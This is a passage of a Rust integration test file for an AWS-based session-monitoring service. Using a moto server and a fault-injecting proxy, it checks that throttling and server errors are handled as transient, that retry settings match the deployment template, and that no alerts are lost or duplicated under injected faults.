    let direct = moto::sdk_config(&moto_url).await;
    let table = moto::unique("shapes");
    moto::create_table(&aws_sdk_dynamodb::Client::new(&direct), &table).await;
    let (topic, _) = moto::create_topic_with_queue(&direct, &moto::unique("shapes")).await;
    let stand_in = http_stub::SsmStandIn::start(sample_directory());
    let proxy = Proxy::start(&moto_url, Some(&stand_in.url()), slow_seconds());
    let sdk = scaled_sdk_config(&proxy.url, attempt_timeout()).await;
    let dynamo = aws_sdk_dynamodb::Client::new(&sdk);
    let sns = aws_sdk_sns::Client::new(&sdk);
    let directory = SsmDirectory::new(aws_sdk_ssm::Client::new(&sdk));
    // Without faults, Session Manager requests reach the stand-in through the proxy.
    let open = directory
        .describe(Place::OWN, Listing::Active, None, None)
        .await
        .expect("DescribeSessions through the proxy");
    assert_eq!(open.sessions.len(), 4, "{:?}", open.sessions);
    let store = DynamoStore::new(dynamo.clone(), &table, 30);
    let notifier = SnsNotifier::new(sns.clone(), &topic);
    let alert =
        warden_core::rules::load::problem_alert(&warden_core::rules::load::RulePackProblem {
            source: "test".into(),
            message: "test".into(),
        });
    for (mode, dynamo_code, sns_code, ssm_code) in [
        (
            "throttle",
            "ProvisionedThroughputExceededException",
            "Throttling",
            "ThrottlingException",
        ),
        (
            "error500",
            "InternalServerError",
            "InternalError",
            "InternalServerError",
        ),
    ] {
        proxy.set(mode, 1.0, 1);
        let err = dynamo
            .get_item()
            .table_name(&table)
            .key("pk", AttributeValue::S("SESSION#x".into()))
            .key("sk", AttributeValue::S("META".into()))
            .send()
            .await
            .unwrap_err();
        assert_eq!(err.code(), Some(dynamo_code), "{mode}: {err:?}");
        let err = sns
            .publish()
            .topic_arn(&topic)
            .message("m")
            .send()
            .await
            .unwrap_err();
        assert_eq!(err.code(), Some(sns_code), "{mode}: {err:?}");
        let err = aws_sdk_ssm::Client::new(&sdk)
            .describe_sessions()
            .state(aws_sdk_ssm::types::SessionState::Active)
            .send()
            .await
            .unwrap_err();
        assert_eq!(err.code(), Some(ssm_code), "{mode}: {err:?}");
        // The adapters take them for transient failures, which fail the invocation.
        assert!(
            matches!(store.load("x").await, Err(StoreError::Unavailable(_))),
            "{mode}"
        );
        assert!(
            matches!(
                notifier.publish(&alert).await,
                Err(NotifyError::Unavailable(_))
            ),
            "{mode}"
        );
        assert!(
            matches!(
                directory
                    .describe(Place::OWN, Listing::Active, None, None)
                    .await,
                Err(DirectoryError::Unavailable(_))
            ),
            "{mode}"
        );
        let counters = proxy.counters();
        assert_eq!(counters["faulted"], counters["requests"], "{counters}");
        assert!(
            counters["requests"].as_u64().unwrap() > 4,
            "the SDK did not retry: {counters}"
        );
    }
}

/// The `MaximumRetryAttempts` of the `EventInvokeConfig` whose failures go to `queue`.
fn retry_attempts_into(template: &str, queue: &str) -> Option<usize> {
    template
        .split("EventInvokeConfig:")
        .skip(1)
        .find_map(|block| {
            let block = block.split("Policies:").next()?;
            if !block.contains(&format!("Destination: !GetAtt {queue}.Arn")) {
                return None;
            }
            let line = block
                .lines()
                .find_map(|l| l.trim().strip_prefix("MaximumRetryAttempts: "))?;
            line.trim().parse().ok()
        })
}

#[test]
fn the_driver_retries_as_template_yaml_tells_lambda_to() {
    let template = std::fs::read_to_string(concat!(env!("CARGO_MANIFEST_DIR"), "/template.yaml"))
        .expect("template.yaml");
    for (queue, attempts) in [
        ("RecorderDeadLetterQueue", LAMBDA_ATTEMPTS),
        ("ScannerDeadLetterQueue", LAMBDA_ATTEMPTS),
        ("ReaperDeadLetterQueue", REAPER_ATTEMPTS),
    ] {
        let retries = retry_attempts_into(&template, queue)
            .unwrap_or_else(|| panic!("no EventInvokeConfig sends failures to {queue}"));
        assert_eq!(
            retries + 1,
            attempts,
            "template.yaml retries into {queue} {retries} times; the fault driver assumes {}",
            attempts - 1
        );
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
#[ignore = "needs moto server and python3; scripts/test runs it"]
async fn nothing_is_lost_or_doubled_under_injected_faults() {
    let Some(moto_url) = moto::endpoint() else {
        return;
    };
    let full = std::env::var_os("WARDEN_FAULTS_FULL").is_some_and(|v| v != "0");
    let seed: u64 = match std::env::var("WARDEN_FAULTS_SEED") {
        Ok(text) => text
            .parse()
            .unwrap_or_else(|_| panic!("WARDEN_FAULTS_SEED={text:?} is not a number")),
        Err(_) => 13,
    };
    let sessions = if full { 40 } else { 6 };
    let mut deliveries = sample_events();
    let samples = deliveries.len();
    let (generated, generated_directory) = generated_sessions(sessions);
    deliveries.extend(generated);
    let reaper_runs = deliveries
        .iter()
        .filter(|d| matches!(d.input, Input::Reaper(_)))
        .count();
    let mut directory = sample_directory();
    directory.extend(generated_directory);
    let stand_in = http_stub::SsmStandIn::start(directory);
    let direct = moto::sdk_config(&moto_url).await;
    let proxy = Proxy::start(&moto_url, Some(&stand_in.url()), slow_seconds());
    println!(
        "fault injection: {} deliveries ({samples} samples, {sessions} generated sessions, \
         {reaper_runs} reaper runs), seed {seed}, proxy {}, Session Manager stand-in {}",
        deliveries.len(),
        proxy.url,
        stand_in.url()
    );

    let mut baselines = HashMap::new();
    for order in [Order::Forward, Order::Reversed] {
        let clean = run(
            &direct,
            &moto_url,
            &stand_in.url(),
            None,
            &order.arrange(&deliveries),
        )
        .await;
        assert_eq!(
            clean.dead_lettered, 0,
            "the clean {order:?} delivery failed"
        );
        assert!(
            clean.alerts.len() >= 10,
            "the clean delivery sent only {} alerts: the samples should page more",
            clean.alerts.len()
        );
        assert!(
            clean.alerts.values().all(|&n| n == 1) && clean.unlabelled == 0,
            "the clean delivery sent an alert twice or without an alert_id: {:?}",
            clean.alerts
        );
        assert_eq!(clean.unmarked, 0, "the clean delivery left alerts unmarked");
        assert!(
            clean.uncured.is_empty(),
            "the clean delivery failed a transcript"
        );
        assert_eq!(
            (clean.reaper_skipped, clean.reaper_reruns),
            (0, 0),
            "the clean delivery's reaper runs skipped sessions"
        );
        for kind in ["unrecorded_session", "no_transcript"] {
            assert!(
                clean
                    .alerts
                    .keys()
                    .any(|id| id.ends_with(&format!("/{kind}"))),
                "the clean {order:?} delivery's reaper runs raised no {kind}: {:?}",
                clean.alerts.keys()
            );
        }
        baselines.insert(order, clean);
    }
    println!(
        "clean delivery: {} alerts, {} table items",
        baselines[&Order::Forward].alerts.len(),
        baselines[&Order::Forward].items.len()
    );

    let mut plan: Vec<(&str, f64, Order)> = Vec::new();
    for mode in MODES {
        for rate in RATES {
            plan.push((mode, rate, Order::Forward));
        }
    }
    for order in [Order::Twice, Order::Reversed] {
        for rate in RATES {
            plan.push(("mixed", rate, order));
        }
    }
    // WARDEN_FAULTS_MODES=lost_reply,mixed: only those modes' runs (for a quicker look).
    if let Ok(only) = std::env::var("WARDEN_FAULTS_MODES") {
        let only: Vec<&str> = only.split(',').map(str::trim).collect();
        for mode in &only {
            assert!(
                MODES.contains(mode),
                "WARDEN_FAULTS_MODES: unknown mode {mode:?} (known: {MODES:?})"
            );
        }
        plan.retain(|(mode, ..)| only.contains(mode));
    }
    let mut rows = Vec::new();
    for (n, (mode, rate, order)) in plan.into_iter().enumerate() {
        let baseline = match order {
            Order::Reversed => &baselines[&Order::Reversed],
            _ => &baselines[&Order::Forward],
        };
        let faulty = run(
            &direct,
            &proxy.url,
            &proxy.url,
            Some((&proxy, mode, rate, seed.wrapping_add(n as u64))),
            &order.arrange(&deliveries),
        )
        .await;
        let reordered = if faulty.dead_lettered > 0 || faulty.reaper_leftover {
            let clean = run(
                &direct,
                &moto_url,
                &stand_in.url(),
                None,
                &faulty.took_effect,
            )
            .await;
            assert_eq!(
                clean.dead_lettered, 0,
                "the clean reordered delivery failed"
            );
            Some(clean)
        } else {
            None
        };
        let mut compared_with = vec![baseline];
        compared_with.extend(reordered.as_ref());
        rows.push(compare(mode, rate, order, &compared_with, &faulty));
    }
    print_table(&rows);

    let failures: Vec<&Row> = rows.iter().filter(|r| r.failed()).collect();
    for r in &failures {
        println!(
            "\n{} {}% {}:",
            r.mode,
            (r.rate * 100.0).round(),
            r.order.name()
        );
        for id in &r.lost {
            println!("  lost alert {id}");
        }
        for item in &r.missing {
            println!("  missing or different item {item}");
        }
        for item in &r.extra {
            println!("  extra item {item}");
        }
        for session in &r.uncured {
            println!("  transcript failure never cured: {session}");
        }
        for late in &r.late {
            println!("  ({late})");
        }
        for failure in &r.redrive_failed {
            println!("  redrive failed: {failure}");
        }
    }
    assert!(
        rows.iter().map(|r| r.faulted).sum::<u64>() > 0,
        "the proxy injected no faults"
    );
    assert!(
        failures.is_empty(),
        "{} of {} fault runs lost, doubled or changed something (see above)",
        failures.len(),
        rows.len()
    );
}
